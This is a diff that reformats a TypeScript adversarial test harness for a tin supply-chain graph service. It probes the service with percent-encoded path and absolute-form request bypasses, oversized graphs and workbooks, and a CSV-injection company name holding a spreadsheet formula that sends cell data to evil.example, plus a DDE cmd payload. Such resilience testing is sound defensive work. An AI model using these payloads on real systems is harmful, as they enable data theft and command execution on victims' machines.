@@ -81,18 +81,31 @@ async function sendOrCut(base: string, path: string, init: RequestInit = {}): Pr
 }
 
 async function importGraph(base: string, document: unknown): Promise<void> {
-  const answer = await send(base, '/api/v1/imports/graph', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(document) });
+  const answer = await send(base, '/api/v1/imports/graph', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify(document),
+  });
   if (answer.status >= 300) throw new Error(`import: ${answer.status} ${answer.body.slice(0, 300)}`);
 }
 
 type Doc = { nodes: object[]; relationships: object[] };
 const company = (id: string) => ({ label: 'Company', id, name: id, country: 'DE' });
-const supplies = (from: string, to: string, share?: number) => ({ type: 'SUPPLIES', from, to, metal: 'tin', ...(share === undefined ? {} : { share }) });
+const supplies = (from: string, to: string, share?: number) => ({
+  type: 'SUPPLIES',
+  from,
+  to,
+  metal: 'tin',
+  ...(share === undefined ? {} : { share }),
+});
 
 /** F ← tier 1 ← … ← tier `tiers`, every company of a tier buying from every one of the next; a non-conformant smelter on top. */
 export function lattice(perTier: number, tiers: number): Doc {
   const id = (t: number, i: number) => `L${t}-${i}`;
-  const nodes: object[] = [company('F'), { label: 'Smelter', id: 'S-top', name: 'Top smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' }];
+  const nodes: object[] = [
+    company('F'),
+    { label: 'Smelter', id: 'S-top', name: 'Top smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' },
+  ];
   const relationships: object[] = [supplies('CD', 'S-top')];
   for (let t = 1; t <= tiers; t++) {
     for (let i = 0; i < perTier; i++) {
@@ -111,7 +124,11 @@ function equalSplitStages(stages: number): Doc {
   const id = (s: number, i: number) => `ST${s}-${i}`;
   const nodes: object[] = [];
   const relationships: object[] = [];
-  const countries = [['CD', 'RW', 'CN'], ['BR', 'CD', 'ID'], ['MY', 'RW', 'PE']];
+  const countries = [
+    ['CD', 'RW', 'CN'],
+    ['BR', 'CD', 'ID'],
+    ['MY', 'RW', 'PE'],
+  ];
   for (let i = 0; i < 3; i++) {
     nodes.push({ label: 'Smelter', id: `SS-${i}`, name: `Stage smelter ${i}`, metal: 'tin', country: 'MY', rmapStatus: 'conformant' });
     for (const c of countries[i]!) relationships.push(supplies(c, `SS-${i}`, third));
@@ -127,7 +144,9 @@ function equalSplitStages(stages: number): Doc {
 
 /** A chain of `depth` companies down from one smelter. */
 function deepChain(depth: number): Doc {
-  const nodes: object[] = [{ label: 'Smelter', id: 'S-chain', name: 'Chain smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' }];
+  const nodes: object[] = [
+    { label: 'Smelter', id: 'S-chain', name: 'Chain smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' },
+  ];
   const relationships: object[] = [supplies('CD', 'S-chain'), supplies('S-chain', 'C0')];
   for (let i = 0; i < depth; i++) {
     nodes.push(company(`C${i}`));
@@ -138,7 +157,10 @@ function deepChain(depth: number): Doc {
 
 /** One buyer with `width` companies as sources, each from one smelter. */
 function wideBuyer(width: number): Doc {
-  const nodes: object[] = [company('W'), { label: 'Smelter', id: 'S-wide', name: 'Wide smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' }];
+  const nodes: object[] = [
+    company('W'),
+    { label: 'Smelter', id: 'S-wide', name: 'Wide smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' },
+  ];
   const relationships: object[] = [supplies('CD', 'S-wide')];
   for (let i = 0; i < width; i++) {
     nodes.push(company(`W${i}`));
@@ -149,7 +171,9 @@ function wideBuyer(width: number): Doc {
 
 /** One strongly connected component: a ring of `size` companies with chords, fed by one smelter. */
 function giantScc(size: number): Doc {
-  const nodes: object[] = [{ label: 'Smelter', id: 'S-ring', name: 'Ring smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' }];
+  const nodes: object[] = [
+    { label: 'Smelter', id: 'S-ring', name: 'Ring smelter', metal: 'tin', country: 'CD', rmapStatus: 'non_conformant' },
+  ];
   const relationships: object[] = [supplies('CD', 'S-ring'), supplies('S-ring', 'R0')];
   for (let i = 0; i < size; i++) {
     nodes.push(company(`R${i}`));
@@ -182,7 +206,10 @@ async function cmrtWithHugeMineCells(): Promise<Buffer> {
     const xml = entry.data.toString('utf8').replace(/<row r="(\d+)"[^>]*>.*?<\/row>/gs, (row, r: string) => {
       if (Number(r) < 5 || !new RegExp(`<c r="B${r}"[^>]*t="s"><v>`).test(row)) return row;
       rows++;
-      return row.replace(new RegExp(`<c r="O${r}"([^>]*?)(?: t="\\w+")?(?:/>|>.*?</c>)`), `<c r="O${r}"$1 t="inlineStr"><is><t>${cell}</t></is></c>`);
+      return row.replace(
+        new RegExp(`<c r="O${r}"([^>]*?)(?: t="\\w+")?(?:/>|>.*?</c>)`),
+        `<c r="O${r}"$1 t="inlineStr"><is><t>${cell}</t></is></c>`,
+      );
     });
     return { name: entry.name, data: Buffer.from(xml, 'utf8') };
   });
@@ -220,7 +247,13 @@ function multipart(parts: Array<{ name: string; filename?: string; data: Buffer 
   const chunks: Buffer[] = [];
   for (const p of parts) {
     const disposition = `form-data; name="${p.name}"${p.filename ? `; filename="${p.filename}"` : ''}`;
-    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${p.filename ? 'Content-Type: application/octet-stream\r\n' : ''}\r\n`), Buffer.from(p.data), Buffer.from('\r\n'));
+    chunks.push(
+      Buffer.from(
+        `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${p.filename ? 'Content-Type: application/octet-stream\r\n' : ''}\r\n`,
+      ),
+      Buffer.from(p.data),
+      Buffer.from('\r\n'),
+    );
   }
   chunks.push(Buffer.from(`--${boundary}--\r\n`));
   return { body: Buffer.concat(chunks), type: `multipart/form-data; boundary=${boundary}` };
@@ -228,14 +261,22 @@ function multipart(parts: Array<{ name: string; filename?: string; data: Buffer 
 
 async function postCmrt(base: string, workbook: Buffer): Promise<string> {
   const form = multipart([{ name: 'file', filename: 'hostile.xlsx', data: workbook }]);
-  return sendOrCut(base, '/api/v1/imports/cmrt?company=aurelia-group&dryRun=true', { method: 'POST', headers: { 'content-type': form.type }, body: new Uint8Array(form.body) });
+  return sendOrCut(base, '/api/v1/imports/cmrt?company=aurelia-group&dryRun=true', {
+    method: 'POST',
+    headers: { 'content-type': form.type },
+    body: new Uint8Array(form.body),
+  });
 }
 
 /** A request line in absolute form, which fetch cannot send: over a raw socket. */
 function rawRequest(base: string, head: string, body: string): Promise<number> {
   const { hostname, port } = new URL(base);
   return new Promise((resolvePromise, reject) => {
-    const socket = connect(Number(port), hostname, () => socket.write(`${head}\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\nconnection: close\r\n\r\n${body}`));
+    const socket = connect(Number(port), hostname, () =>
+      socket.write(
+        `${head}\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\nconnection: close\r\n\r\n${body}`,
+      ),
+    );
     let text = '';
     socket.on('data', (d) => (text += d.toString('latin1')));
     socket.on('close', () => resolvePromise(Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0)));
@@ -264,7 +305,14 @@ function cmrtCase(id: string, what: string, build: () => Promise<Buffer>): Hosti
 const SMELTER_NAME = (i: number) => `q${'a'.repeat(480)}${i.toString(16).padStart(4, '0')}`;
 
 /** 2,000 tin smelters whose names (at the 200-character cap) differ in their last 4 characters, and a worst-case query for them. */
-const CAP_SMELTERS = () => Array.from({ length: 2000 }, (_, i) => ({ label: 'Smelter', id: `CAP-${i}`, name: `q${'a'.repeat(195)}${i.toString(16).padStart(4, '0')}`, metal: 'tin', country: 'CN' }));
+const CAP_SMELTERS = () =>
+  Array.from({ length: 2000 }, (_, i) => ({
+    label: 'Smelter',
+    id: `CAP-${i}`,
+    name: `q${'a'.repeat(195)}${i.toString(16).padStart(4, '0')}`,
+    metal: 'tin',
+    country: 'CN',
+  }));
 const CAP_QUERY = `q${'a'.repeat(185)}zz${'a'.repeat(12)}`;
 
 const CASES: HostileCase[] = [
@@ -275,11 +323,25 @@ const CASES: HostileCase[] = [
     run: async (base) => {
       const json = { 'content-type': 'application/json' };
       const attempts: Array<() => Promise<number>> = [
-        async () => (await send(base, '/%61pi/v1/companies/x', { method: 'PUT', headers: json, body: JSON.stringify({ name: 'X', country: 'DE' }) })).status,
+        async () =>
+          (await send(base, '/%61pi/v1/companies/x', { method: 'PUT', headers: json, body: JSON.stringify({ name: 'X', country: 'DE' }) }))
+            .status,
         async () => (await send(base, '/%61pi/v1/companies/aurelia-group', { method: 'DELETE' })).status,
         async () => (await send(base, '/%61pi/v1/export?format=json')).status,
-        async () => (await send(base, `/%61pi/v1/smelters/${await aSmelterId(base)}/name-decisions`, { method: 'POST', headers: json, body: JSON.stringify({ name: 'n', decision: 'reject' }) })).status,
-        () => rawRequest(base, 'POST http://x/api/v1/imports/graph HTTP/1.1', JSON.stringify({ nodes: [company('bypass')], relationships: [] })),
+        async () =>
+          (
+            await send(base, `/%61pi/v1/smelters/${await aSmelterId(base)}/name-decisions`, {
+              method: 'POST',
+              headers: json,
+              body: JSON.stringify({ name: 'n', decision: 'reject' }),
+            })
+          ).status,
+        () =>
+          rawRequest(
+            base,
+            'POST http://x/api/v1/imports/graph HTTP/1.1',
+            JSON.stringify({ nodes: [company('bypass')], relationships: [] }),
+          ),
       ];
       const statuses = [];
       for (const attempt of attempts) statuses.push(await attempt());
@@ -297,7 +359,10 @@ const CASES: HostileCase[] = [
         const s = (await send(base, '/api/v1/companies', { headers: { authorization: 'Bearer wrong-key' } })).status;
         statuses.set(s, (statuses.get(s) ?? 0) + 1);
       }
-      return { status: [...statuses].map(([s, n]) => `${n}× ${s}`).join(', '), count: { value: statuses.get(429) ?? 0, unit: 'answered 429', target: 100 } };
+      return {
+        status: [...statuses].map(([s, n]) => `${n}× ${s}`).join(', '),
+        count: { value: statuses.get(429) ?? 0, unit: 'answered 429', target: 100 },
+      };
     },
   },
   {
@@ -316,29 +381,74 @@ const CASES: HostileCase[] = [
       return { status: [...seen].join(', '), count: { value: failed, unit: 'of 36 not 200', target: 0 } };
     },
   },
-  { id: 'risk-paths-lattice-10x7', what: 'GET risk-paths?limit=10 on a 10×7 lattice', setup: (base) => importGraph(base, lattice(10, 7)), run: async (base) => ({ status: await sendOrCut(base, '/api/v1/companies/F/risk-paths?metal=tin&limit=10') }) },
-  { id: 'risk-paths-lattice-20x7', what: 'GET risk-paths?limit=10 on a 20×7 lattice', setup: (base) => importGraph(base, lattice(20, 7)), run: async (base) => ({ status: await sendOrCut(base, '/api/v1/companies/F/risk-paths?metal=tin&limit=10') }) },
-  { id: 'deep-chain-10000', what: 'origins, risk, risk-paths, SPOF at the end of a 10,000-deep chain', setup: (base) => importGraph(base, deepChain(10_000)), run: analysisRuns('C9999') },
-  { id: 'wide-buyer-100000', what: 'origins, risk, risk-paths, SPOF of a buyer with 100,000 sources', setup: (base) => importGraph(base, wideBuyer(100_000)), run: analysisRuns('W') },
-  { id: 'giant-scc-5000', what: 'origins, risk, risk-paths, SPOF inside one 5,000-company strongly connected component', setup: (base) => importGraph(base, giantScc(5_000)), run: analysisRuns('R0') },
+  {
+    id: 'risk-paths-lattice-10x7',
+    what: 'GET risk-paths?limit=10 on a 10×7 lattice',
+    setup: (base) => importGraph(base, lattice(10, 7)),
+    run: async (base) => ({ status: await sendOrCut(base, '/api/v1/companies/F/risk-paths?metal=tin&limit=10') }),
+  },
+  {
+    id: 'risk-paths-lattice-20x7',
+    what: 'GET risk-paths?limit=10 on a 20×7 lattice',
+    setup: (base) => importGraph(base, lattice(20, 7)),
+    run: async (base) => ({ status: await sendOrCut(base, '/api/v1/companies/F/risk-paths?metal=tin&limit=10') }),
+  },
+  {
+    id: 'deep-chain-10000',
+    what: 'origins, risk, risk-paths, SPOF at the end of a 10,000-deep chain',
+    setup: (base) => importGraph(base, deepChain(10_000)),
+    run: analysisRuns('C9999'),
+  },
+  {
+    id: 'wide-buyer-100000',
+    what: 'origins, risk, risk-paths, SPOF of a buyer with 100,000 sources',
+    setup: (base) => importGraph(base, wideBuyer(100_000)),
+    run: analysisRuns('W'),
+  },
+  {
+    id: 'giant-scc-5000',
+    what: 'origins, risk, risk-paths, SPOF inside one 5,000-company strongly connected component',
+    setup: (base) => importGraph(base, giantScc(5_000)),
+    run: analysisRuns('R0'),
+  },
   {
     id: 'smelter-match-long-names',
     what: 'GET smelter-matches with a 485-character name among 2,000 tin smelters of 485 characters',
     setup: async (base) => {
-      const nodes = Array.from({ length: 2000 }, (_, i) => ({ label: 'Smelter', id: `LONG-${i}`, name: SMELTER_NAME(i), metal: 'tin', country: 'CN' }));
-      const answer = await send(base, '/api/v1/imports/graph', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ nodes, relationships: [] }) });
+      const nodes = Array.from({ length: 2000 }, (_, i) => ({
+        label: 'Smelter',
+        id: `LONG-${i}`,
+        name: SMELTER_NAME(i),
+        metal: 'tin',
+        country: 'CN',
+      }));
+      const answer = await send(base, '/api/v1/imports/graph', {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ nodes, relationships: [] }),
+      });
       log(`hostile: importing 2,000 smelters of 485 characters: ${answer.status}`);
     },
-    run: async (base) => ({ status: await sendOrCut(base, `/api/v1/smelter-matches?metal=tin&name=q${'a'.repeat(470)}zz${'a'.repeat(12)}`) }),
+    run: async (base) => ({
+      status: await sendOrCut(base, `/api/v1/smelter-matches?metal=tin&name=q${'a'.repeat(470)}zz${'a'.repeat(12)}`),
+    }),
   },
   {
     id: 'smelter-match-names-at-cap',
     what: 'GET smelter-matches with a 200-character name among 2,000 tin smelters of 200 characters',
     setup: async (base) => {
-      const nodes = Array.from({ length: 2000 }, (_, i) => ({ label: 'Smelter', id: `CAP-${i}`, name: `q${'a'.repeat(195)}${i.toString(16).padStart(4, '0')}`, metal: 'tin', country: 'CN' }));
+      const nodes = Array.from({ length: 2000 }, (_, i) => ({
+        label: 'Smelter',
+        id: `CAP-${i}`,
+        name: `q${'a'.repeat(195)}${i.toString(16).padStart(4, '0')}`,
+        metal: 'tin',
+        country: 'CN',
+      }));
       await importGraph(base, { nodes, relationships: [] });
     },
-    run: async (base) => ({ status: await sendOrCut(base, `/api/v1/smelter-matches?metal=tin&name=q${'a'.repeat(185)}zz${'a'.repeat(12)}`) }),
+    run: async (base) => ({
+      status: await sendOrCut(base, `/api/v1/smelter-matches?metal=tin&name=q${'a'.repeat(185)}zz${'a'.repeat(12)}`),
+    }),
   },
   {
     id: 'smelter-match-after-decision-at-cap',
@@ -357,20 +467,38 @@ const CASES: HostileCase[] = [
       return { status: `decision ${decision}, match ${await sendOrCut(base, `/api/v1/smelter-matches?metal=tin&name=${CAP_QUERY}`)}` };
     },
   },
-  cmrtCase('cmrt-huge-mine-cells', 'dry-run CMRT import, a 32,767-character mine-location cell in every smelter row', cmrtWithHugeMineCells),
-  cmrtCase('workbook-hidden-sheet', 'CMRT import of a real CMRT with a 1.6 M-cell sheet named xl/worksheets/sheet99.xml.bak', cmrtWithHiddenSheet),
+  cmrtCase(
+    'cmrt-huge-mine-cells',
+    'dry-run CMRT import, a 32,767-character mine-location cell in every smelter row',
+    cmrtWithHugeMineCells,
+  ),
+  cmrtCase(
+    'workbook-hidden-sheet',
+    'CMRT import of a real CMRT with a 1.6 M-cell sheet named xl/worksheets/sheet99.xml.bak',
+    cmrtWithHiddenSheet,
+  ),
   {
     id: 'cmrt-25-fields',
     what: 'CMRT import with 25 form fields',
     run: async (base) => {
       const form = multipart(Array.from({ length: 25 }, (_, i) => ({ name: `field${i}`, data: 'x' })));
-      return { status: await sendOrCut(base, '/api/v1/imports/cmrt?company=aurelia-group&dryRun=true', { method: 'POST', headers: { 'content-type': form.type }, body: new Uint8Array(form.body) }) };
+      return {
+        status: await sendOrCut(base, '/api/v1/imports/cmrt?company=aurelia-group&dryRun=true', {
+          method: 'POST',
+          headers: { 'content-type': form.type },
+          body: new Uint8Array(form.body),
+        }),
+      };
     },
   },
   {
     id: 'csv-formulas',
     what: 'CSV export of a company named =HYPERLINK(…) with a tag +cmd|…: cells that start with = + - @',
-    setup: (base) => importGraph(base, { nodes: [{ ...company('evil'), name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', tags: ["+cmd|' /C calc'!A0"] }], relationships: [] }),
+    setup: (base) =>
+      importGraph(base, {
+        nodes: [{ ...company('evil'), name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', tags: ["+cmd|' /C calc'!A0"] }],
+        relationships: [],
+      }),
     run: async (base) => {
       const answer = await send(base, '/api/v1/export?format=csv&part=nodes');
       const cells = answer.body.split(/\r?\n/).flatMap((line) => line.split(','));
@@ -414,7 +542,11 @@ async function runCase(c: HostileCase, dataRoot: string): Promise<Row[]> {
   try {
     if (c.setup) await c.setup(service.base);
     // A first analysis compiles the snapshot: do it before the timing, as a running service would have.
-    await send(service.base, '/api/v1/companies/aurelia-group/origins?metal=tin', c.env?.API_KEYS ? { headers: { authorization: `Bearer ${EDITOR_KEY}` } } : {});
+    await send(
+      service.base,
+      '/api/v1/companies/aurelia-group/origins?metal=tin',
+      c.env?.API_KEYS ? { headers: { authorization: `Bearer ${EDITOR_KEY}` } } : {},
+    );
     const health = pollHealth(service.base);
     const started = performance.now();
     const outcome = await c.run(service.base);
@@ -426,7 +558,14 @@ async function runCase(c: HostileCase, dataRoot: string): Promise<Row[]> {
       { name: `hostile.${c.id}.time`, value: Math.round(ms), unit: 'ms', target: null, better: 'lower', note },
       { name: `hostile.${c.id}.health-worst`, value: Math.round(worst), unit: 'ms', target: 100, better: 'lower' },
     ];
-    if (outcome.count) rows.push({ name: `hostile.${c.id}.count`, value: outcome.count.value, unit: outcome.count.unit, target: outcome.count.target, better: c.id === 'bad-keys-rate-limited' ? 'higher' : 'lower' });
+    if (outcome.count)
+      rows.push({
+        name: `hostile.${c.id}.count`,
+        value: outcome.count.value,
+        unit: outcome.count.unit,
+        target: outcome.count.target,
+        better: c.id === 'bad-keys-rate-limited' ? 'higher' : 'lower',
+      });
     return rows;
   } finally {
     await service.stop();
@@ -443,7 +582,14 @@ async function main(): Promise<void> {
         rows.push(...(await runCase(c, dataRoot)));
       } catch (err) {
         log(`hostile: ${c.id} failed: ${err instanceof Error ? err.message : String(err)}`);
-        rows.push({ name: `hostile.${c.id}.time`, value: NaN, unit: 'ms', target: null, better: 'lower', note: `failed: ${err instanceof Error ? err.message : String(err)}` });
+        rows.push({
+          name: `hostile.${c.id}.time`,
+          value: NaN,
+          unit: 'ms',
+          target: null,
+          better: 'lower',
+          note: `failed: ${err instanceof Error ? err.message : String(err)}`,
+        });
       }
     }
   } finally {
@@ -451,7 +597,8 @@ async function main(): Promise<void> {
   }
   mkdirSync(dirname(OUT), { recursive: true });
   writeFileSync(OUT, `${JSON.stringify(rows, null, 2)}\n`);
-  for (const r of rows) process.stdout.write(`${r.name.padEnd(48)} ${String(r.value).padStart(8)} ${r.unit}${r.note ? `  (${r.note})` : ''}\n`);
+  for (const r of rows)
+    process.stdout.write(`${r.name.padEnd(48)} ${String(r.value).padStart(8)} ${r.unit}${r.note ? `  (${r.note})` : ''}\n`);
   log(`hostile: service of ${ROOT}; results in ${OUT}`);
 }
 
